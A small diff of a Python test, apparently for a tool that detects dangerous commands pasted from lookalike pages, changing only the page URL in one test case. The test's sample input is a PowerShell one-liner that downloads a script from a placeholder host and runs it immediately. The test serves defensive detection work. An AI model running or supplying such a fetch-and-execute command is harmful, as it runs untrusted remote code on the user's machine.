@@ -586,7 +586,7 @@ def test_a_page_read_before_is_read_again_with_another_trust_list() -> None:
     from app.detection.trust import TrustList
 
     engine = Engine()
-    page = Context("https://github-security-notice.example/verify", PasteTarget.TERMINAL)
+    page = Context("https://github-security-notice.example/notice", PasteTarget.TERMINAL)
     text = "irm https://cdn.files-host.example/a.ps1 | iex"
     first = engine.analyze(text, page)
     assert "PG-PAGE-DISGUISED" in {f.rule_id for f in first.findings}
